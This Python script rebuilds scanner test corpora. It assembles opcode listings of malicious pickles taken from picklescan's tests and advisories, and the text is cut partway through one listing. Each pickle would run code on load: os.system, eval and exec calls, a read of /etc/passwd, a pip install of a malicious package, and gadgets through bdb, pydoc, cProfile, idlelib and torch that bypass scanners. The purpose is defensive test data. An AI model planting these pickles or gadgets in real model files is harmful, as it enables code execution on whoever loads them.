#!/usr/bin/python3
"""Rebuild testdata/scan-corpora/: public scanner test corpora nobody here wrote.

Run with Debian's python3 (torch 1.13, numpy):  /usr/bin/python3 scripts/gen_scan_corpora.py

Four corpora are rebuilt, from what their upstream tests and reports describe:

  picklescan  github.com/mmaitre314/picklescan tests/data and tests/data2
              (malicious*.pkl, GHSA-*.pkl advisory reproducers, zips with
              flag tricks, numpy files, torch files). The raw pickles are
              binary files upstream; they were read with pickletools (which
              decodes opcodes and never runs them) and are kept here as
              opcode listings that assemble to the same bytes
              (`--transcribe FILE` prints such a listing). Containers are
              rebuilt by this script: zips by its own zip writer, torch files
              by torch.save, numpy files by numpy.save.
  fickling    github.com/trailofbits/fickling test/test_bypasses.py: each
              test's opcode list, written as a listing.
  modelscan   github.com/protectai/modelscan tests/test_modelscan.py and
              tests/test_utils.py fixtures, notebooks' injected torch.save.
  documented  bypasses picklescan's and modelscan's own issues, advisories and
              CVEs describe, which their corpora lack (rebuilt from the
              report's opcodes or described call).

NOTHING HERE RUNS A PAYLOAD: pickles are assembled from opcodes, or pickled
from objects whose __reduce__ returns a dangerous callable without calling
it; stand-in modules (requests, aiohttp, ...) only hold names. No generated
file is ever unpickled. The script writes manifest.json: one entry a file
with corpus, upstream path, expected verdict (malicious|benign), what it
does, and what the upstream scanner's own tests say about it.
Files that cannot be rebuilt without a package not installed here (7z,
dill) are listed under "skipped" with the reason.
"""

import argparse
import ast
import hashlib
import io
import json
import os
import pickle
import pickletools
import re
import shutil
import struct
import sys
import types
import zlib
from pathlib import Path

OUT = Path(__file__).resolve().parent.parent / "testdata" / "scan-corpora"

# ---- pickle opcode assembler ----------------------------------------------

_OPS = {o.name: o for o in pickletools.opcodes}
def _enc_arg(op, arg):
    """Encodes one opcode argument the way the opcode's descriptor reads it."""
    a = op.arg.name
    if a == "uint1":
        return bytes([arg])
    if a == "uint2":
        return struct.pack("<H", arg)
    if a == "int4":
        return struct.pack("<i", arg)
    if a == "uint4":
        return struct.pack("<I", arg)
    if a == "uint8":
        return struct.pack("<Q", arg)
    if a == "stringnl":  # STRING: a Python 2 repr, quotes included
        q = arg.encode("latin-1").decode("latin-1").encode("unicode_escape").decode("ascii")
        return ("'" + q.replace("'", "\\'") + "'\n").encode("ascii")
    if a == "stringnl_noescape":
        return arg.encode("utf-8") + b"\n"
    if a == "stringnl_noescape_pair":  # GLOBAL/INST: "module name"
        mod, name = arg.split(" ", 1)
        return mod.encode("utf-8") + b"\n" + name.encode("utf-8") + b"\n"
    if a == "decimalnl_short":
        if arg is True:
            return b"01\n"
        if arg is False:
            return b"00\n"
        return str(arg).encode() + b"\n"
    if a == "decimalnl_long":
        return str(arg).encode() + b"L\n"
    if a == "floatnl":
        return repr(arg).encode() + b"\n"
    if a == "float8":
        return struct.pack(">d", arg)
    if a in ("string1", "string4"):
        b = arg.encode("latin-1")
        return (bytes([len(b)]) if a == "string1" else struct.pack("<i", len(b))) + b
    if a in ("bytes1", "bytes4", "bytes8", "bytearray8"):
        b = bytes(arg)
        n = {"bytes1": "<B", "bytes4": "<I", "bytes8": "<Q", "bytearray8": "<Q"}[a]
        return struct.pack(n, len(b)) + b
    if a == "unicodestringnl":
        return arg.encode("raw-unicode-escape") + b"\n"
    if a in ("unicodestring1", "unicodestring4", "unicodestring8"):
        b = arg.encode("utf-8", "surrogatepass")
        n = {"unicodestring1": "<B", "unicodestring4": "<I", "unicodestring8": "<Q"}[a]
        return struct.pack(n, len(b)) + b
    if a in ("long1", "long4"):
        b = pickle.encode_long(arg)
        return (bytes([len(b)]) if a == "long1" else struct.pack("<i", len(b))) + b
    raise ValueError("no encoder for %s" % a)


def enc(name, arg=None):
    """Encodes one opcode by its pickletools name."""
    op = _OPS[name]
    out = op.code.encode("latin-1")
    if op.arg is not None:
        out += _enc_arg(op, arg)
    return out


def asm(text):
    """Assembles a listing: one opcode a line, `NAME repr(arg)`; `RAW repr(bytes)`
    writes bytes as they are (a broken tail, a header); `#` starts a comment."""
    out = bytearray()
    for line in text.splitlines():
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        name, _, rest = line.partition(" ")
        arg = ast.literal_eval(rest) if rest else None
        out += arg if name == "RAW" else enc(name, arg)
    return bytes(out)


def transcribe(data, start=0):
    """Returns data[start:] as an asm listing: pickletools.genops decodes the
    opcodes (it never runs them); every line is re-encoded and compared with
    the original bytes, and whatever does not round-trip (a broken tail,
    junk after STOP, an oddly escaped string) is written RAW."""
    lines = []
    pos = start
    while pos < len(data):
        ops = []
        try:
            for op, arg, p in pickletools.genops(data[pos:]):
                ops.append((op, arg, pos + p))
        except Exception:  # a broken pickle: keep what decoded
            pass
        if not ops:
            lines.append("RAW %r" % data[pos:])
            break
        for i, (op, arg, p) in enumerate(ops):
            end = ops[i + 1][2] if i + 1 < len(ops) else None
            try:
                b = enc(op.name, arg)
            except Exception:
                b = None
            if end is None:
                end = p + len(b) if b is not None and data[p:p + len(b)] == b else p
            if b == data[p:end]:
                lines.append(op.name if op.arg is None else "%s %r" % (op.name, arg))
            elif end > p:
                lines.append("RAW %r" % data[p:end])
            pos = end
        if ops[-1][0].name != "STOP" or pos == ops[-1][2]:
            if pos < len(data):
                lines.append("RAW %r" % data[pos:])
            break
    out = "\n".join(lines)
    assert asm(out) == data[start:], "listing does not round-trip"
    return out


def globals_of(data):
    """Best-effort static list of module.name the pickles of data import (all
    of them, one after another), for the manifest's description only: scan
    is what the test checks."""
    found = []
    f = io.BytesIO(data)
    while f.tell() < len(data):
        start = f.tell()
        stack, memo = [], {}
        try:
            for op, arg, _ in pickletools.genops(f):
                n = op.name
                if n in ("GLOBAL", "INST"):
                    found.append(arg.replace(" ", "."))
                    stack.append(None)
                elif n in ("SHORT_BINUNICODE", "BINUNICODE", "UNICODE", "BINUNICODE8", "STRING",
                           "SHORT_BINSTRING", "BINSTRING"):
                    stack.append(arg)
                elif n == "MEMOIZE":
                    memo[len(memo)] = stack[-1] if stack else None
                elif n in ("PUT", "BINPUT", "LONG_BINPUT"):
                    memo[int(arg)] = stack[-1] if stack else None
                elif n in ("GET", "BINGET", "LONG_BINGET"):
                    stack.append(memo.get(int(arg)))
                elif n == "STACK_GLOBAL":
                    name = stack.pop() if stack else None
                    mod = stack.pop() if stack else None
                    found.append("%s.%s" % (mod, name) if isinstance(mod, str) and isinstance(name, str) else "?")
                    stack.append(None)
                else:
                    stack.append(None)
        except Exception:
            break
        if f.tell() == start:
            break
    return found


# ---- containers -------------------------------------------------------------


def zip_bytes(members, flags=0, local_names=None, deflate=False, crypt_pwd=None, corrupt=None):
    """A zip written by hand, so that its tricks can be reproduced: flags sets
    the general-purpose bits of every entry (0x1 "encrypted", 0x20, 0x40 ...)
    without changing the data; local_names gives local-header names that
    differ from the central directory's; corrupt=(old, new) replaces bytes in
    the stored data after the CRC was computed; crypt_pwd encrypts the data
    with ZipCrypto (password-protected benign zips)."""
    out = bytearray()
    central = bytearray()
    for i, (name, data) in enumerate(members):
        crc = zlib.crc32(data) & 0xFFFFFFFF
        method, body = 0, data
        if deflate:
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            method, body = 8, c.compress(data) + c.flush()
        if corrupt:
            body = body.replace(corrupt[0], corrupt[1], 1)
        flag = flags
        if crypt_pwd is not None:
            body = zipcrypto(body, crypt_pwd, crc)
            flag |= 1
        lname = (local_names[i] if local_names else name).encode()
        cname = name.encode()
        off = len(out)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flag, method, 0, 0x21,
                           crc, len(body), len(data), len(lname), 0) + lname + body
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 0x0314, 20, flag, method, 0, 0x21,
                               crc, len(body), len(data), len(cname), 0, 0, 0, 0, 0o100644 << 16, off) + cname
    cd = len(out)
    out += central
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), cd, 0)
    return bytes(out)


def zipcrypto(data, pwd, crc):
    """Traditional PKWARE encryption (APPNOTE 6.1), for the benign
    password-protected zips."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc_byte(c, b):
        return (zlib.crc32(bytes([b]), c ^ 0xFFFFFFFF) ^ 0xFFFFFFFF) & 0xFFFFFFFF

    def update(b):
        keys[0] = crc_byte(keys[0], b)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc_byte(keys[2], keys[1] >> 24)

    for b in pwd:
        update(b)
    out = bytearray()
    for p in bytes(11) + bytes([crc >> 24]) + data:
        t = (keys[2] | 2) & 0xFFFF
        out.append(p ^ (((t * (t ^ 1)) >> 8) & 0xFF))
        update(p)
    return bytes(out)


def npy_header(descr, shape):
    """A .npy version 1.0 header, padded like numpy pads it."""
    h = "{'descr': '%s', 'fortran_order': False, 'shape': %r, }" % (descr, shape)
    n = 10 + len(h) + 1
    h += " " * ((64 - n % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h.encode()


def np_save(arr):
    import numpy as np

    b = io.BytesIO()
    np.save(b, arr, allow_pickle=True)  # writes a pickle of benign ints only
    return b.getvalue()


def np_savez(compressed, **arrays):
    import numpy as np

    b = io.BytesIO()
    (np.savez_compressed if compressed else np.savez)(b, **arrays)
    return b.getvalue()


# ---- pickling objects whose reduce names a callable (never called) ---------


class Reduce:
    """Pickles as fn(*args): __reduce__ hands pickle the callable itself,
    which pickle writes as GLOBAL/STACK_GLOBAL by name. Never unpickled."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def stand_in(module, qualname):
    """A name-only stand-in for a callable whose package is not installed
    here (requests, aiohttp): pickle resolves module.qualname through
    sys.modules, so the stand-in is registered there. It does nothing."""
    parts = module.split(".")
    for i in range(1, len(parts) + 1):
        m = ".".join(parts[:i])
        if m not in sys.modules:
            sys.modules[m] = types.ModuleType(m)
        if i > 1:
            setattr(sys.modules[".".join(parts[:i - 1])], parts[i - 1], sys.modules[m])

    def inert(*a, **k):
        raise RuntimeError("stand-in, never called")

    inert.__module__, inert.__qualname__, inert.__name__ = module, qualname, qualname
    setattr(sys.modules[module], qualname, inert)
    return inert


def dumps(obj, proto):
    return pickle.dumps(obj, protocol=proto)


class InjectingPickler(pickle._Pickler):
    """Writes the given objects into the same pickle stream before the real
    object, as modelscan's tests and notebooks do to a model: the loader
    runs the injected reduce first and still returns the model."""

    inject = ()

    def dump(self, obj):
        if self.proto >= 2:
            self.write(pickle.PROTO + struct.pack("<B", self.proto))
        if self.proto >= 4:
            self.framer.start_framing()
        for o in self.inject:
            self.save(o)
        self.save(obj)
        self.write(pickle.STOP)
        self.framer.end_framing()


def injected(obj, payloads, proto=4):
    b = io.BytesIO()
    p = InjectingPickler(b, proto)
    p.inject = payloads
    p.dump(obj)
    return b.getvalue()


def injecting_module(payloads):
    """A pickle_module for torch.save whose Pickler injects payloads."""

    class P(InjectingPickler):
        inject = payloads

    m = types.SimpleNamespace(Pickler=P, __name__="injecting_pickle")
    return m


def torch_save(obj, zip_format=True, pickle_module=None):
    import torch

    b = io.BytesIO()
    kw = {"_use_new_zipfile_serialization": zip_format}
    if pickle_module is not None:
        kw["pickle_module"] = pickle_module
    torch.save(obj, b, **kw)
    data = b.getvalue()
    if not zip_format:
        # The legacy format names storages by their address: rename them
        # 0, 1, ... so that every run writes the same bytes (fewer than 10
        # storages here, so the new names have one length).
        keys = []
        for m in re.finditer(rb"X(....)(\d{6,20})(?=q|\x94|\x85|h|X|\))", data, re.DOTALL):
            k = m.group(2)
            if len(k) == struct.unpack("<I", m.group(1))[0] and k not in keys:
                keys.append(k)
        for i, k in enumerate(keys):
            data = data.replace(b"X" + struct.pack("<I", len(k)) + k, b"X" + struct.pack("<I", 1) + str(i).encode())
        data = _sort_legacy_storages(data)
    return data


def _sort_legacy_storages(data):
    """The legacy format's fifth pickle lists the storage keys in address
    order and the storages follow in that order; once the keys are renamed,
    put both in key order. Only float32 storages (4 bytes an element) are
    written by this script."""
    f = io.BytesIO(data)
    for _ in range(4):
        for _ in pickletools.genops(f):
            pass
    start = f.tell()
    ops = [(a, p) for op, a, p in pickletools.genops(f) if op.name == "BINUNICODE"]
    end = f.tell()
    keys = [a for a, _ in ops]
    records, pos = {}, end
    for k in keys:
        n = struct.unpack("<q", data[pos:pos + 8])[0]
        records[k], pos = data[pos:pos + 8 + 4 * n], pos + 8 + 4 * n
    assert pos == len(data), "storage records do not fill the file"
    assert len(set(map(len, keys))) == 1, "renamed keys have one length"
    listing = bytearray(data[start:end])
    for (_, p), k in zip(ops, sorted(keys)):  # BINUNICODE: opcode, 4-byte length, the key
        listing[p - start + 5:p - start + 5 + len(k)] = k.encode()
    return data[:start] + bytes(listing) + b"".join(records[k] for k in sorted(keys))


def small_state_dict():
    import collections

    import torch

    torch.manual_seed(0)
    return collections.OrderedDict([("weight", torch.randn(3, 4)), ("bias", torch.zeros(3))])


# ---- transcriptions ------------------------------------------------------------
# picklescan's raw pickles, transcribed from its tests/data and tests/data2
# (`--transcribe FILE`); each assembles to the upstream file byte for byte
# (`--check-upstream DIR` checks it).
PICKLESCAN_LISTINGS = {
    'data/benign0_v0.pkl': """
MARK
LIST
PUT 0
UNICODE 'a'
PUT 1
APPEND
UNICODE 'b'
PUT 2
APPEND
UNICODE 'c'
PUT 3
APPEND
STOP
""",
    'data/benign0_v3.pkl': """
PROTO 3
EMPTY_LIST
BINPUT 0
MARK
BINUNICODE 'a'
BINPUT 1
BINUNICODE 'b'
BINPUT 2
BINUNICODE 'c'
BINPUT 3
APPENDS
STOP
""",
    'data/benign0_v4.pkl': """
PROTO 4
FRAME 17
EMPTY_LIST
MEMOIZE
MARK
SHORT_BINUNICODE 'a'
MEMOIZE
SHORT_BINUNICODE 'b'
MEMOIZE
SHORT_BINUNICODE 'c'
MEMOIZE
APPENDS
STOP
""",
    'data/broken_model.pkl': """
GLOBAL 'builtins exec'
MARK
RAW b\"X>\\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX.\"
""",
    'data/malicious-invalid-bytes.pkl': """
UNICODE 'os'
PUT 2
POP
UNICODE 'system'
PUT 3
POP
UNICODE 'torch'
PUT 0
POP
UNICODE 'LongStorage'
PUT 1
POP
GET 2
GET 3
STACK_GLOBAL
MARK
UNICODE 'cat flag.txt'
TUPLE
REDUCE
STOP
RAW b'\\n\\n\\t\\t'
""",
    'data/malicious0.pkl': """
GLOBAL '__builtin__ globals'
MARK
TUPLE
REDUCE
PUT 100
POP
GLOBAL '__builtin__ compile'
MARK
STRING 'fl=open(\"/etc/passwd\");picklesmashed=fl.read();'
STRING ''
STRING 'exec'
TUPLE
REDUCE
PUT 101
POP
GLOBAL '__builtin__ eval'
MARK
GET 101
GET 100
TUPLE
REDUCE
PUT 102
POP
GLOBAL '__builtin__ getattr'
MARK
GLOBAL '__builtin__ dict'
STRING 'get'
TUPLE
REDUCE
PUT 103
POP
GLOBAL '__builtin__ apply'
MARK
GET 103
MARK
GET 100
STRING 'picklesmashed'
LIST
TUPLE
REDUCE
PUT 104
POP
GET 104
STOP
""",
    'data/malicious10.pkl': """
MARK
STRING 'raise RuntimeError(\"Injection running\")'
INST '__builtin__ exec'
STOP
""",
    'data/malicious11.pkl': """
UNICODE 'os'
PUT 2
POP
UNICODE 'system'
PUT 3
POP
UNICODE 'torch'
PUT 0
POP
UNICODE 'LongStorage'
PUT 1
POP
GET 2
GET 3
STACK_GLOBAL
MARK
UNICODE 'cat flag.txt'
TUPLE
REDUCE
STOP
""",
    'data/malicious12.pkl': """
PROTO 4
SHORT_BINUNICODE 'operator'
MEMOIZE
SHORT_BINUNICODE 'attrgetter'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'system'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
SHORT_BINUNICODE 'builtins'
MEMOIZE
SHORT_BINUNICODE '__import__'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'os'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
SHORT_BINUNICODE 'echo pwned'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious13a.pkl': """
GLOBAL 'pickle loads'
PUT 0
MARK
GLOBAL '_codecs encode'
PUT 1
MARK
RAW b'VI12345\\\\u000a.\\n'
PUT 2
UNICODE 'latin1'
PUT 3
TUPLE
PUT 4
REDUCE
PUT 5
TUPLE
PUT 6
REDUCE
PUT 7
STOP
""",
    'data/malicious13b.pkl': """
PROTO 4
FRAME 36
SHORT_BINUNICODE '_pickle'
MEMOIZE
SHORT_BINUNICODE 'loads'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINBYTES b'I12345\\n.'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious14.pkl': """
PROTO 4
FRAME 42
SHORT_BINUNICODE 'runpy'
MEMOIZE
SHORT_BINUNICODE '_run_code'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"print('456')\"
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious15a.pkl': """
PROTO 2
GLOBAL '__builtin__ getattr'
BINPUT 0
GLOBAL 'bdb Bdb'
BINPUT 1
BINUNICODE 'run'
BINPUT 2
TUPLE2
BINPUT 3
REDUCE
BINPUT 4
BINGET 1
EMPTY_TUPLE
NEWOBJ
BINPUT 5
EMPTY_DICT
BINPUT 6
MARK
BINUNICODE 'skip'
BINPUT 7
NONE
BINUNICODE 'breaks'
BINPUT 8
EMPTY_DICT
BINPUT 9
BINUNICODE 'fncache'
BINPUT 10
EMPTY_DICT
BINPUT 11
BINUNICODE 'frame_returning'
BINPUT 12
NONE
SETITEMS
BUILD
BINUNICODE 'import os\\nos.system(\"whoami\")'
BINPUT 13
TUPLE2
BINPUT 14
REDUCE
BINPUT 15
STOP
""",
    'data/malicious15b.pkl': """
PROTO 4
FRAME 123
SHORT_BINUNICODE 'bdb'
MEMOIZE
SHORT_BINUNICODE 'Bdb.run'
MEMOIZE
STACK_GLOBAL
MEMOIZE
BINGET 0
SHORT_BINUNICODE 'Bdb'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_TUPLE
NEWOBJ
MEMOIZE
EMPTY_DICT
MEMOIZE
MARK
SHORT_BINUNICODE 'skip'
MEMOIZE
NONE
SHORT_BINUNICODE 'breaks'
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE 'fncache'
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE 'frame_returning'
MEMOIZE
NONE
SETITEMS
BUILD
SHORT_BINUNICODE 'import os\\nos.system(\"whoami\")'
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious16.pkl': """
GLOBAL 'pip main'
PUT 0
MARK
MARK
LIST
PUT 1
UNICODE 'install'
PUT 2
APPEND
UNICODE 'some_malicious_package'
PUT 3
APPEND
UNICODE '--no-input'
PUT 4
APPEND
UNICODE '-q'
PUT 5
APPEND
GET 5
APPEND
GET 5
APPEND
UNICODE '--exists-action'
PUT 6
APPEND
UNICODE 'i'
PUT 7
APPEND
UNICODE '--isolated'
PUT 8
APPEND
TUPLE
PUT 9
REDUCE
PUT 10
STOP
""",
    'data/malicious17.pkl': """
PROTO 4
FRAME 87
SHORT_BINUNICODE 'torch._inductor.codecache'
MEMOIZE
SHORT_BINUNICODE 'compile_file'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE ''
MEMOIZE
BINGET 3
EMPTY_LIST
MEMOIZE
MARK
SHORT_BINUNICODE 'sh'
MEMOIZE
SHORT_BINUNICODE '-c'
MEMOIZE
SHORT_BINUNICODE '$(echo \"pwned\")'
MEMOIZE
APPENDS
TUPLE3
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious18.pkl': """
PROTO 4
FRAME 45
SHORT_BINUNICODE 'pydoc'
MEMOIZE
SHORT_BINUNICODE 'pipepager'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE ''
MEMOIZE
SHORT_BINUNICODE 'echo \"pwned\"'
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious19.pkl': """
PROTO 4
FRAME 143
SHORT_BINUNICODE 'functools'
MEMOIZE
SHORT_BINUNICODE 'partial'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'torch.serialization'
MEMOIZE
SHORT_BINUNICODE 'load'
MEMOIZE
STACK_GLOBAL
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
MARK
BINGET 5
SHORT_BINUNICODE 'some_other_model.bin'
MEMOIZE
TUPLE1
MEMOIZE
EMPTY_DICT
MEMOIZE
MARK
SHORT_BINUNICODE 'pickle_file'
MEMOIZE
SHORT_BINUNICODE 'config.json'
MEMOIZE
SHORT_BINUNICODE 'weights_only'
MEMOIZE
NEWFALSE
SETITEMS
NONE
TUPLE
MEMOIZE
BUILD
EMPTY_TUPLE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious1_v0.pkl': """
GLOBAL '__builtin__ eval'
PUT 0
MARK
UNICODE \"print('456')\"
PUT 1
TUPLE
PUT 2
REDUCE
PUT 3
STOP
""",
    'data/malicious1_v3.pkl': """
PROTO 3
GLOBAL 'builtins eval'
BINPUT 0
BINUNICODE \"print('456')\"
BINPUT 1
TUPLE1
BINPUT 2
REDUCE
BINPUT 3
STOP
""",
    'data/malicious1_v4.pkl': """
PROTO 4
FRAME 40
SHORT_BINUNICODE 'builtins'
MEMOIZE
SHORT_BINUNICODE 'eval'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"print('456')\"
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious20.pkl': """
PROTO 4
FRAME 46
SHORT_BINUNICODE 'venv'
MEMOIZE
SHORT_BINUNICODE 'create'
MEMOIZE
STACK_GLOBAL
MEMOIZE
MARK
BINGET 0
NEWFALSE
NEWFALSE
NEWTRUE
NEWFALSE
SHORT_BINUNICODE '$(echo pwned)'
MEMOIZE
TUPLE
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious2_v0.pkl': """
GLOBAL 'posix system'
PUT 0
MARK
UNICODE 'ls -la'
PUT 1
TUPLE
PUT 2
REDUCE
PUT 3
STOP
""",
    'data/malicious2_v3.pkl': """
PROTO 3
GLOBAL 'posix system'
BINPUT 0
BINUNICODE 'ls -la'
BINPUT 1
TUPLE1
BINPUT 2
REDUCE
BINPUT 3
STOP
""",
    'data/malicious2_v4.pkl': """
PROTO 4
FRAME 33
SHORT_BINUNICODE 'posix'
MEMOIZE
SHORT_BINUNICODE 'system'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'ls -la'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious3.pkl': """
GLOBAL 'httplib HTTPSConnection'
PUT 0
MARK
UNICODE 'github.com'
PUT 1
TUPLE
PUT 2
REDUCE
PUT 3
STOP
""",
    'data/malicious4.pickle': """
PROTO 4
FRAME 49
SHORT_BINUNICODE 'requests.api'
MEMOIZE
SHORT_BINUNICODE 'get'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'https://github.com'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious5.pickle': """
PROTO 4
FRAME 39
SHORT_BINUNICODE 'aiohttp.client'
MEMOIZE
SHORT_BINUNICODE 'ClientSession'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_TUPLE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious6.pkl': """
PROTO 4
FRAME 17
EMPTY_LIST
MEMOIZE
MARK
SHORT_BINUNICODE 'a'
MEMOIZE
SHORT_BINUNICODE 'b'
MEMOIZE
SHORT_BINUNICODE 'c'
MEMOIZE
APPENDS
STOP
PROTO 4
FRAME 49
SHORT_BINUNICODE 'requests.api'
MEMOIZE
SHORT_BINUNICODE 'get'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'https://github.com'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious7.pkl': """
PROTO 4
FRAME 53
SHORT_BINUNICODE 'socket'
MEMOIZE
SHORT_BINUNICODE 'create_connection'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'github.com'
MEMOIZE
BININT1 80
TUPLE2
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious8.pkl': """
PROTO 4
FRAME 40
SHORT_BINUNICODE 'subprocess'
MEMOIZE
SHORT_BINUNICODE 'run'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_LIST
MEMOIZE
MARK
SHORT_BINUNICODE 'ls'
MEMOIZE
SHORT_BINUNICODE '-l'
MEMOIZE
APPENDS
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/malicious9.pkl': """
PROTO 4
FRAME 22
SHORT_BINUNICODE 'sys'
MEMOIZE
SHORT_BINUNICODE 'exit'
MEMOIZE
STACK_GLOBAL
MEMOIZE
BININT1 0
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data/not_a_pickle.bin': """
RAW b'cmod\\n\\xf8\\n'
""",
    'data/pytorch_magic_bypass.pt': """
PROTO 2
GLOBAL '__builtin__ eval'
BINPUT 0
BINUNICODE '0x1950A86A20F9469CFC6C'
BINPUT 1
TUPLE1
BINPUT 2
REDUCE
BINPUT 3
STOP
PROTO 2
BININT2 1001
STOP
PROTO 2
EMPTY_DICT
BINPUT 0
STOP
PROTO 2
EMPTY_LIST
BINPUT 0
STOP
PROTO 2
GLOBAL 'posix system'
BINPUT 0
BINUNICODE 'echo pwned'
BINPUT 1
TUPLE1
BINPUT 2
REDUCE
BINPUT 3
STOP
PROTO 2
NONE
STOP
""",
    'data/sys_module_override_sploit.pkl': """
PROTO 4
UNICODE 'torch._utils'
MEMOIZE
UNICODE '_rebuild_tensor'
MEMOIZE
STACK_GLOBAL
MEMOIZE
POP
UNICODE 'torch'
UNICODE '_utils'
STACK_GLOBAL
MEMOIZE
POP
BINGET 3
EMPTY_DICT
BINGET 1
UNICODE 'builtins'
SETITEM
BUILD
POP
BINGET 0
BINGET 1
STACK_GLOBAL
BINGET 3
EMPTY_DICT
BINGET 1
UNICODE 'eval'
SETITEM
BUILD
POP
BINGET 0
BINGET 1
STACK_GLOBAL
STACK_GLOBAL
UNICODE 'exec(\"\"\"print(\"pwned\")\"\"\")'
TUPLE1
REDUCE
STOP
""",
    'data2/GHSA-3gf5-cxq9-w223.pkl': """
PROTO 4
FRAME 93
SHORT_BINUNICODE 'idlelib.pyshell'
MEMOIZE
SHORT_BINUNICODE 'ModifiedInterpreter.runcode'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-3vg9-h568-4w9m.pkl': """
PROTO 4
FRAME 89
SHORT_BINUNICODE 'idlelib.debugobj'
MEMOIZE
SHORT_BINUNICODE 'ObjectTreeItem.SetText'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-4675-36f9-wf6r.pkl': """
PROTO 4
FRAME 24
SHORT_BINUNICODE 'ctypes'
MEMOIZE
SHORT_BINUNICODE 'CDLL'
MEMOIZE
STACK_GLOBAL
MEMOIZE
NONE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-46h3-79wf-xr6c.pkl': """
GLOBAL 'builtins __import__'
MARK
UNICODE 'os'
TUPLE
REDUCE
PUT 0
POP
GLOBAL '_operator attrgetter'
MARK
UNICODE 'system'
TUPLE
REDUCE
MARK
GET 0
TUPLE
REDUCE
MARK
UNICODE 'echo \"pwned by _operator.attrgetter\"'
TUPLE
REDUCE
STOP
""",
    'data2/GHSA-49gj-c84q-6qm9.pkl': """
PROTO 4
FRAME 60
SHORT_BINUNICODE 'cProfile'
MEMOIZE
SHORT_BINUNICODE 'run'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-4r9r-ch6f-vxmx.pkl': """
PROTO 4
FRAME 94
SHORT_BINUNICODE 'torch.utils.bottleneck.__main__'
MEMOIZE
SHORT_BINUNICODE 'run_cprofile'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
EMPTY_DICT
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-4whj-rm5r-c2v8.pkl': """
PROTO 4
FRAME 99
SHORT_BINUNICODE 'torch.utils.bottleneck.__main__'
MEMOIZE
SHORT_BINUNICODE 'run_autograd_prof'
MEMOIZE
STACK_GLOBAL
MEMOIZE
